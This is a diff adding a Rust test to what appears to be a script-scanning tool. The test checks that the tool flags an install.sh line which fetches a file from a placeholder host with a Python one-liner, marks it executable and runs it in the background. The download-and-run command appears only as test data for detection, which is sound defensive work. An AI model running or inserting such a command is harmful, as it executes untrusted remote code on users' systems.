@@ -116,3 +116,20 @@ fn memory_that_is_read_by_a_document_is_found() {
         Critical
     ));
 }
+
+#[test]
+fn a_one_liner_that_writes_what_is_started_is_found() {
+    let code =
+        "import urllib.request as u;open('.d','wb').write(u.urlopen('https://a.example/d').read())";
+    let text = |run: &str| format!("python3 -c \"{code}\" && chmod +x .d && {run}\n");
+    assert!(has(
+        &analyse(&[("install.sh", &text("./.d &"))]),
+        "script-download-run",
+        Low
+    ));
+    assert!(!has(
+        &analyse(&[("install.sh", &text("./other"))]),
+        "script-download-run",
+        Low
+    ));
+}
